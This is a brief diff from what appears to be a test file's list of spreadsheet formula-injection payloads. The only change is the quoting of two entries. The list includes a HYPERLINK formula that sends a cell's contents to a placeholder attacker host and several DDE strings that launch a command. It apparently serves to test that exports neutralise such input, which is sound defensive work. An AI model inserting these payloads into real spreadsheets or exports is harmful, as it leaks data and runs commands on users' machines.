@@ -14,8 +14,8 @@ import { anAction } from '../support/builders';
 const INJECTIONS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
   "+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '-2+3',
   '\t=1+1',
   '\r=1+1',
